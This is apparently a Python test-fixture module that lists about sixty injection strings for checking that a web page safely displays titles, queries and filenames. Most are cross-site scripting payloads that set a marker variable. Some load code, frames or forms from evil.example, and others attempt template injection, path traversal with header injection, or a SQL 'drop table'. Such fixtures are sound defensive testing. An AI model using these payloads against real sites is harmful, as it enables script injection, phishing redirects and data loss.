"""Sixty texts that attack any page that shows them: as titles, queries, reasons and names of files.

What would execute sets `window.__hacked` or opens a dialog; what would become markup has the id `hacked`.
"""

_RUN = "window.__hacked=1"

HOSTILE: tuple[str, ...] = (
    # Scripts
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    '<script id="hacked" type="module" src="http://evil.example/x.js"></script>',
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<!--><script>{_RUN}</script-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f'<noscript><p title="</noscript><script>{_RUN}</script>">',
    # Elements that load or run something
    f'<img id=hacked src=x onerror="{_RUN}">',
    f'<svg id="hacked" onload="{_RUN}"></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName="x" dur="1s"></svg>',
    f'<svg><a id="hacked" href="javascript:{_RUN}"><text y="20">click</text></a></svg>',
    '<svg><foreignObject><iframe id="hacked" src="//evil.example"></iframe></foreignObject></svg>',
    f'<math><mtext><img id=hacked src onerror="{_RUN}"></mtext></math>',
    f'<iframe id="hacked" srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<iframe id=hacked src="javascript:parent.{_RUN}"></iframe>',
    f'<object id="hacked" data="javascript:{_RUN}"></object>',
    '<embed id="hacked" src="//evil.example/x.swf">',
    f'<body id="hacked" onload="{_RUN}">',
    f'<details id="hacked" open ontoggle="{_RUN}">more</details>',
    f'<input id="hacked" autofocus onfocus="{_RUN}">',
    f'<video id="hacked"><source onerror="{_RUN}"></video>',
    f'<marquee id="hacked" onstart="{_RUN}">x</marquee>',
    '<meta id="hacked" http-equiv="refresh" content="0;url=//evil.example">',
    '<base id="hacked" href="//evil.example/">',
    '<link id="hacked" rel="stylesheet" href="//evil.example/x.css">',
    "<style id='hacked'>body{display:none}</style>",
    '<form id="hacked" action="//evil.example"><button>Sign in</button></form>',
    '<template id="hacked"><slot></slot></template>',
    # Out of an attribute, a text or a comment
    f'" onmouseover="{_RUN}" id="hacked',
    f"' autofocus onfocus='{_RUN}' id='hacked",
    f'"><img id="hacked" src=x onerror={_RUN}>',
    f"'><svg/onload={_RUN} id=hacked>",
    f"`-alert(1)-` ${{{_RUN}}}",
    f"';{_RUN};//",
    f"\\u003cimg id=hacked src=x onerror={_RUN}\\u003e",
    f"--><script>{_RUN}</script><!--",
    # Addresses
    f"javascript:{_RUN}//",
    f"[click](javascript:{_RUN})",
    f'![x](x" onerror="{_RUN})',
    f"<javascript:{_RUN}>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[the runbook](//evil.example/sign-in)",
    # Templates and attributes of htmx
    "{{7*7}} {% for x in ().__class__.__mro__ %}{{x}}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {{= 7*7 }}",
    f'<div id="hacked" hx-get="//evil.example" hx-trigger="load" hx-on:click="{_RUN}">x</div>',
    f'" hx-on::load="{_RUN}" hx-post="/console/waiting" id="hacked',
    f"<div id='hacked' data-hx-on-load='{_RUN}'></div>",
    # Characters
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b id=hacked&#x3e; &amp;amp;",
    "\u202egnp.exe\u202d \u2066hidden\u2069 \u200bzero\u200b width",
    "مرحبا \u200f<b id='hacked'>שלום</b> abc",
    "\ufeff\u0085\u2028line\u2029paragraph \x1b[31mred\x1b[0m \x07",
    "W" * 400 + "ithout-a-place-to-break",
    "../../../../etc/passwd%00.yaml%0d%0aSet-Cookie: hacked=1",
    # What looks like nothing
    "null",
    "' or 1=1; drop table formulary.workflow; --",
)
